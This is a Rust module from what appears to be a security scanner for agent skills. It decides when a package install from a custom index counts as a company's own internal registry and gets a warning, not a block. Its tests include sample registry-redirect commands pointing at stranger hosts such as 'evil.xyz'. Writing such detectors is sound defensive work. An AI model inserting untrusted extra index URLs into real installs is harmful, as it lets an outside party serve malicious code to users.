//! A company's own package index, documented as such (lure73's benign
//! look-alike: `pip install --index-url
//! https://pypi.internal.acme-corp.com/simple acme-data-tools` under "our
//! company hosts private packages on its own index"). An install from an
//! index the skill chose blocks (`install-from-url`, `registry-redirect`):
//! a stranger's index serves whatever its owner likes. A host that names
//! itself internal (a label `internal`, `intranet`, `corp`, a private
//! network's address or top-level domain) in a text that says its index
//! is the company's own is the reader's employer's, which only the
//! reader can reach; it warns.

use std::sync::LazyLock;

use regex::Regex;

use crate::lines::Lines;
use crate::urlhost::host_of;

static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bhttps?://(\S+)").expect("URL regex"));

/// The text's own words for a private index of its organisation.
static DOCUMENTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:internal|private|company(?:'s)?|corporate|intranet|in-house|(?:our|its|their)\s+own)\s+(?:[\w-]+\s+){0,2}?(?:index|registry|mirror|artifactory|nexus|package\s+(?:index|server|feed))\b")
        .expect("documented regex")
});

/// Labels and top-level domains a host names itself internal by.
const INTERNAL_LABELS: &[&str] = &["internal", "intranet", "corp", "intra", "lan", "local"];

/// Whether every URL on `line` is a host named internal, and the text
/// calls its index its organisation's own.
pub fn documented_internal(lines: &Lines, line: usize) -> bool {
    let mut hosts = URL
        .captures_iter(lines.get(line))
        .map(|url| host_of(url.get(1).map_or("", |m| m.as_str())).to_ascii_lowercase())
        .peekable();
    hosts.peek().is_some()
        && hosts.all(|host| internal(&host))
        && lines.all().any(|text| DOCUMENTED.is_match(text))
}

/// A host on a private network: a private IPv4 address, or a name with
/// an internal label below its registrable part or as its top level.
fn internal(host: &str) -> bool {
    let octets: Vec<u8> = host.split('.').filter_map(|o| o.parse().ok()).collect();
    if octets.len() == 4 {
        return matches!(octets[..], [10, ..] | [192, 168, ..])
            || octets[0] == 172 && (16..32).contains(&octets[1]);
    }
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels.iter().enumerate().any(|(at, label)| {
            INTERNAL_LABELS.contains(label) && (at + 2 < labels.len() || at + 1 == labels.len())
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(text: &str, line: usize) -> bool {
        documented_internal(&Lines::new(text), line)
    }

    #[test]
    fn a_documented_internal_host_is_the_companys() {
        let text = "Our company hosts private packages on its own index.\npip install --index-url https://pypi.internal.acme-corp.com/simple acme-tools\n";
        assert!(judge(text, 1));
        let text =
            "Use the internal package index:\npip install -i http://10.0.4.2:8080/simple tools\n";
        assert!(judge(text, 1));
        let text = "Our private registry:\nnpm install --registry https://npm.build.corp acme-ui\n";
        assert!(judge(text, 1));
    }

    #[test]
    fn an_undocumented_or_outside_host_is_not() {
        // Nothing says the index is the company's own.
        assert!(!judge(
            "pip install -i https://pypi.internal.acme.com/simple x\n",
            0
        ));
        // A word `internal` in the registrable part is anyone's domain.
        let said = "Our internal index:\n";
        assert!(!judge(
            &format!("{said}pip install -i https://pypi.internal.xyz/simple x\n"),
            1
        ));
        assert!(!judge(
            &format!("{said}pip install -i https://pypi-internal.xyz/simple x\n"),
            1
        ));
        assert!(!judge(
            &format!("{said}pip install -i https://45.1.2.3/simple x\n"),
            1
        ));
        // Every URL must be internal.
        assert!(!judge(
            &format!(
                "{said}pip install -i https://pypi.internal.acme.com/simple --extra-index-url https://evil.xyz/simple x\n"
            ),
            1
        ));
    }
}
